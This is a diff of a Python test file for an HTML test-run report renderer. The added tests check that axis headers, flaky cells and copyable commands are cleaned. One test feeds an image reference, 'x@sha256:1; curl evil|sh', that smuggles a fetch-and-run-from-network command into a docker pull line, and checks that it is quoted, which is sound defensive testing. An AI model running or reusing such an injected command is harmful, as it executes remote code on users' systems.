@@ -370,7 +370,7 @@ def test_what_changed_since_a_baseline_is_said_after_what_broke(tmp_path: Path) 
     words = [word.strip() for word in Page(f"<table>{table}</table>").words if word.strip()]
     told = "java-amd64 newly failing passed → failed 8.62 s → 9.30 s $0.0000168 → unknown same"
     assert told in " ".join(words)
-    assert "1 cell is as before." not in text
+    assert "2 cells came to the same outcome." in text
     assert f"Compared with run {baseline.run.id}" in text
 
 
@@ -416,3 +416,35 @@ def test_a_worker_that_had_nothing_to_do_is_counted_and_not_drawn() -> None:
     html = render(samples.run(samples.six_passed().cells, workers=256), FOLDER)
     assert "254 workers had nothing to do" in Page(html).text
     assert html.count('<div class="lane') == 3  # with the axis
+
+
+def test_an_axis_that_a_cell_does_not_have_is_called_none() -> None:
+    cells = [
+        samples.cell("python", "amd64", [], id=f"c-{tag}", axes={"variant": "python", "tag": tag})
+        for tag in ("", "x")
+    ]
+    html = render(samples.run(cells, axes={"variant": ["python"], "tag": ["", "x"]}), FOLDER)
+    headers = re.findall(r'role="columnheader">([^<]*)</th>', html.split('class="grid')[1])
+    assert headers[:2] == ["none", "x"]
+
+
+def test_what_a_command_to_type_again_holds_is_cleaned_too() -> None:
+    folder = "a`b\u202e\x1b[31m\x00" + "z" * 20_000
+    results = samples.broken()
+    settings = {"reports.folder": SettingValue(value=folder, source="file")}
+    run = results.run.model_copy(update={"settings": settings})
+    html = render(results.model_copy(update={"run": run}), FOLDER)
+    assert not set(html) & {"\x00", "\x1b", "\u202e"}
+    assert "z" * 5000 not in html
+
+
+def test_a_flaky_cell_of_which_no_failure_was_kept_is_a_page_too() -> None:
+    cell = samples.six_passed().cells[0].model_copy(update={"flaky": True})
+    assert "it is not known what" in Page(render(samples.run([cell]), FOLDER)).text
+
+
+def test_a_reference_that_is_none_is_no_command_when_it_is_copied() -> None:
+    cell = samples.six_passed().cells[0]
+    image = cell.image.model_copy(update={"pinned": "x@sha256:1; curl evil|sh"})
+    html = render(samples.run([cell.model_copy(update={"image": image})]), FOLDER)
+    assert "docker pull --platform linux/amd64 &#39;x@sha256:1; curl evil|sh&#39;" in html
